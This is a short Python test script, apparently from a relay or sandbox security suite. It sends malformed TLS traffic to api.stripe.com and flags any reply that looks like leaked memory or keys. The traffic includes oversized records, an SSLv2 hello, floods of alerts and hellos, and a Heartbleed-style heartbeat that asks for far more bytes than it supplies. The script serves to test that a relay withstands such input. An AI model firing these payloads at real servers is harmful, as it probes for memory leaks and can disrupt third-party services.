# attack: bytes that are no TLS: broken records, a greedy heartbeat, huge lengths; the relay may leak or break
# expect: broker
# validator: refused
import os
import random
import socket
import ssl
import struct

random.seed(4)


def record(kind, body, version=0x0301, length=None):
    return struct.pack(">BHH", kind, version, len(body) if length is None else length) + body


HELLO = bytes.fromhex("010000310303") + os.urandom(32) + bytes.fromhex("000008c02bc02fc02cc03001000000")
MESSAGES = {
    "random": random.randbytes(4096),
    "zeros": bytes(70000),
    "SSLv2 hello": b"\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10" + os.urandom(37),
    "huge record": record(22, random.randbytes(65535)),
    "length beyond the data": record(22, HELLO, length=65535),
    "heartbeat": record(22, HELLO) + record(24, b"\x01\xff\xff" + b"a"),
    "application data first": record(23, b"GET /v1/payouts HTTP/1.1\r\n\r\n"),
    "alerts": record(21, b"\x01\x00") * 200,
    "many hellos": record(22, HELLO) * 50,
    "one byte each": b"".join(record(22, bytes((byte,))) for byte in HELLO),
    "change of ciphers": record(20, b"\x01") * 100,
}
for name, message in MESSAGES.items():
    try:
        with socket.create_connection(("api.stripe.com", 443), 0.5) as plain:
            plain.settimeout(0.1)
            plain.sendall(message)
            answer = plain.recv(65536)
            print(name, answer[:12].hex(), len(answer))
            if answer[:1] == b"\x18" or b"-----BEGIN" in answer or b" 200 " in answer[:20]:
                print("ESCAPED: the relay gave away", answer[:40], flush=True)
    except OSError as error:
        print(name, error)

# The relay has to be as it was.
plain = socket.create_connection(("api.stripe.com", 443), 1)
with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
    tls.sendall(b"GET /v1/customers/cus_1 HTTP/1.1\r\nHost: api.stripe.com\r\nConnection: close\r\n\r\n")
    print(tls.recv(20))
